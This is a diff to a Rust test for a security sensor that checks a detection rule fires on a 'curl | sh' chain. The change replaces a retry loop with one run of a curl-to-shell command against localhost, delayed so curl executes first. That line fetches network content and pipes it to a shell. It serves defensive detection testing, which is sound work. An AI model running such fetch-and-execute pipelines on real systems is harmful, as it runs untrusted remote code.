@@ -81,34 +81,20 @@ fn payload_piped_to_shell_fires_once_with_its_steps() {
     let Some(mut sensor) = start_or_skip(&["--rules", &rules]) else {
         return;
     };
-    // Two attempts: on a freshly built, loaded machine the first exec of
-    // the chain was twice missing from the events (not a sequence matter:
-    // the exec itself was not recorded); the miss is reported on stderr.
+    // In `curl | sh` bash forks both sides at once and either may exec
+    // first; when sh comes first the rule (step order) rightly does not
+    // fire, live or in Elasticsearch. The sh side waits for curl to have
+    // started (`exec sh`: the subshell, bash's child, becomes sh).
     let alerts_path = sensor.alerts_path();
-    let mut attempt = None;
-    for round in 0..2 {
-        let m = marker("seqpipe");
-        let Some((cid, cgroups)) =
-            run_in_container(&format!("curl -s -m 1 http://127.0.0.1:4444/{m} | sh"))
-        else {
-            return;
-        };
-        let found = wait_line(&alerts_path, Duration::from_secs(10), |a| {
-            get(a, "kibana.alert.rule.rule_id") == RULE_ID
-                && args_of(a).iter().any(|x| x.contains(&m))
-        });
-        let curl_seen = read_lines(&sensor.events_path())
-            .iter()
-            .any(|e| get(e, "process.name") == "curl" && args_of(e).iter().any(|x| x.contains(&m)));
-        attempt = Some((m, cid, cgroups, found));
-        if curl_seen || round == 1 {
-            break;
-        }
-        eprintln!("warning: the curl exec of the chain was not recorded; running it again");
-    }
-    let Some((m, cid, _cgroups, found)) = attempt else {
+    let m = marker("seqpipe");
+    let Some((cid, _cgroups)) = run_in_container(&format!(
+        "curl -s -m 1 http://127.0.0.1:4444/{m} | (sleep 0.2; exec sh)"
+    )) else {
         return;
     };
+    let found = wait_line(&alerts_path, Duration::from_secs(15), |a| {
+        get(a, "kibana.alert.rule.rule_id") == RULE_ID && args_of(a).iter().any(|x| x.contains(&m))
+    });
     let summary = sensor.stop().expect("sensor stops");
     if found.is_err() {
         let chain: Vec<String> = read_lines(&sensor.events_path())
